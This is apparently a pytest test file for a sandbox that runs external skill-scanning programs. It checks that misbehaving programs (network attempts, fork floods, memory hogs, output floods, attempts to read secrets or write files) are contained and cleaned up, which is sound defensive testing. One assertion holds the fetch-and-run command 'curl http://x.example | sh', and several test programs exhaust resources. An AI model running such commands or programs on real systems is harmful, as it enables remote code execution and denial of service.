"""Programs that misbehave, run for real: each ends as an error that says why, and nothing of it is left."""

from __future__ import annotations

import asyncio
import socket
import sys
from pathlib import Path

import pytest

from tests.external.programs import MEGABYTE, SKILL, program_scanner, scan_by
from vskill_platform.domain.external_scan import ExternalReport, ExternalScanStatus
from vskill_platform.scanning.external.sandbox import MOST_PROCESSES
from vskill_platform.scanning.external.usage import family_usage
from vskill_platform.testing.waits import until

SLEEPER = "import time; time.sleep(987654)"


def assert_error(report: ExternalReport, *words: str) -> None:
    assert report.status is ExternalScanStatus.ERROR
    assert (report.score, report.findings) == (None, ())
    for word in words:
        assert word in report.summary


def processes_with(word: str, *, beginning: str = "") -> list[str]:
    """The ids of processes that have this in their command line, which begins so."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            command = path.read_text(errors="replace")
        except OSError:
            continue
        if word in command and command.startswith(beginning):
            found.append(path.parent.name)
    return found


async def test_program_is_heard__when_it_behaves(tmp_path: Path) -> None:
    report = await scan_by(tmp_path, "tell('seen', file=folder + '/run.sh', line=2)")
    assert (report.status, report.score, report.provider_version) == (ExternalScanStatus.PASS, 97, "7")
    (finding,) = report.findings
    assert (finding.rule_id, finding.file, finding.line) == ("mine/told", "run.sh", 2)
    assert finding.excerpt == "curl http://x.example | sh"


async def test_program_reaches_nobody__when_it_tries_the_network(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        port = server.getsockname()[1]
        report = await scan_by(tmp_path, f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)")
        with pytest.raises(BlockingIOError):
            server.accept()
    assert_error(report, "mine ended with status 1", "Network is unreachable")


async def test_program_is_ended__when_it_hangs(tmp_path: Path) -> None:
    report = await scan_by(tmp_path, "import time; time.sleep(3600)", external_scan_time_limit_s=1.0)
    assert report.status is ExternalScanStatus.TIMED_OUT
    assert report.summary == "mine took longer than the 1 s that it may take."


async def test_family_of_a_program_ends_with_it__when_its_children_have_left_the_group(tmp_path: Path) -> None:
    text = (
        "import subprocess, time\n"
        "for _ in range(5):\n"
        f"    subprocess.Popen([sys.executable, '-c', {SLEEPER!r}], start_new_session=True, stdout=subprocess.DEVNULL)\n"
        "time.sleep(3600)\n"
    )
    async with program_scanner(tmp_path, text, external_scan_time_limit_s=3.0) as scanner:
        scanning = asyncio.create_task(scanner.scan(SKILL))
        await until(lambda: len(processes_with(SLEEPER)) == 5, what="five sleepers run")
        assert (await scanning).status is ExternalScanStatus.TIMED_OUT
        await until(lambda: not processes_with(SLEEPER), what="no sleeper is left")


async def test_program_ends__when_the_worker_that_runs_it_is_killed(tmp_path: Path) -> None:
    worker = (
        "import asyncio, sys; from pathlib import Path; from tests.external.programs import scan_by\n"
        "asyncio.run(scan_by(Path(sys.argv[1]), 'import time; time.sleep(3600)'))\n"
    )
    process = await asyncio.create_subprocess_exec(sys.executable, "-c", worker, str(tmp_path), cwd=Path.cwd())
    script = str(tmp_path / "program.py")
    await until(lambda: processes_with(script, beginning=sys.executable), what="the program runs")
    process.kill()
    await process.wait()
    await until(lambda: not processes_with(script), what="the program is gone")


async def test_program_is_ended__when_it_starts_too_many_processes(tmp_path: Path) -> None:
    text = (
        "import os, time\n"
        f"for _ in range({2 * MOST_PROCESSES}):\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(3600)\n"
        "time.sleep(3600)\n"
    )
    assert_error(await scan_by(tmp_path, text), "started more processes than it may")


async def test_program_is_ended__when_it_prints_a_flood(tmp_path: Path) -> None:
    report = await scan_by(tmp_path, "while True: sys.stdout.write('x' * 65536)", external_scan_output_bytes=MEGABYTE)
    assert_error(report, "printed more than the 1,048,576 bytes")


async def test_program_is_heard_to_the_last_word__when_it_complains_without_end(tmp_path: Path) -> None:
    text = "try:\n    while True: os.write(2, b'x' * 65536)\nexcept OSError: pass\n"
    report = await scan_by(tmp_path, text, external_scan_output_bytes=MEGABYTE)
    assert_error(report, "no result")
    assert len(report.summary) <= 500


async def test_program_ends_without_a_result__when_it_asks_for_too_much_memory(tmp_path: Path) -> None:
    report = await scan_by(tmp_path, "kept = bytearray(2 * 10**9)", external_scan_memory_bytes=256 * MEGABYTE)
    assert_error(report, "MemoryError")


async def test_family_is_ended__when_all_of_it_together_has_too_much_memory(tmp_path: Path) -> None:
    text = (
        "import os, time\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        "        kept = bytearray(os.urandom(1)) * (100 * 1024 * 1024)\n"
        "        time.sleep(3600)\n"
        "time.sleep(3600)\n"
    )
    report = await scan_by(tmp_path, text, external_scan_memory_bytes=256 * MEGABYTE)
    assert_error(report, "used more memory than the 268,435,456 bytes")


async def test_program_sees_nothing_of_ours__when_it_looks_around(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VSKILL_SECRET_OF_OURS", "hunter2")
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "registry.db").write_bytes(b"secret")
    text = (
        f"data = {str(tmp_path / 'data')!r}\n"
        "tell(*sorted(os.environ), *(f'sees {name}' for name in os.listdir(data)),\n"
        "     *(f'process {name}' for name in os.listdir('/proc') if name.isdigit()))\n"
    )
    told = {finding.message for finding in (await scan_by(tmp_path, text)).findings}
    assert told == {
        *("HOME", "LC_ALL", "PATH", "PWD", "PYTHONDONTWRITEBYTECODE", "TMPDIR", "TZ"),
        "sees external",
        "process 1",
    }


@pytest.mark.parametrize(
    "place", ["folder + '/SKILL.md'", "folder + '/new'", "'/tmp/new'", "sys.argv[0]", "sys.prefix + '/new'"]
)
async def test_program_changes_nothing__when_it_tries_to_write(tmp_path: Path, place: str) -> None:
    assert_error(await scan_by(tmp_path, f"open({place}, 'w')"), "Read-only file system")


async def test_program_may_write_in_its_own_folder__and_nothing_stays(tmp_path: Path) -> None:
    text = "open(os.environ['TMPDIR'] + '/note', 'w').write('x' * 1000); tell()"
    async with program_scanner(tmp_path, text) as scanner:
        assert (await scanner.scan(SKILL)).status is ExternalScanStatus.PASS
        (workspace,) = (tmp_path / "data" / "external").iterdir()
        assert list(workspace.iterdir()) == []
    assert list((tmp_path / "data" / "external").iterdir()) == []


async def test_nothing_of_a_scan_is_left__when_it_is_cancelled(tmp_path: Path) -> None:
    text = f"import subprocess; subprocess.run([sys.executable, '-c', {SLEEPER!r}])"
    async with program_scanner(tmp_path, text) as scanner:
        scanning = asyncio.create_task(scanner.scan(SKILL))
        await until(lambda: processes_with(SLEEPER), what="the sleeper runs")
        scanning.cancel()
        with pytest.raises(asyncio.CancelledError):
            await scanning
        await until(lambda: not processes_with(SLEEPER), what="no sleeper is left")
    assert list((tmp_path / "data" / "external").iterdir()) == []


def test_usage_of_a_process_that_is_gone_is_nothing() -> None:
    assert family_usage(2**22 + 1).memory_bytes == 0
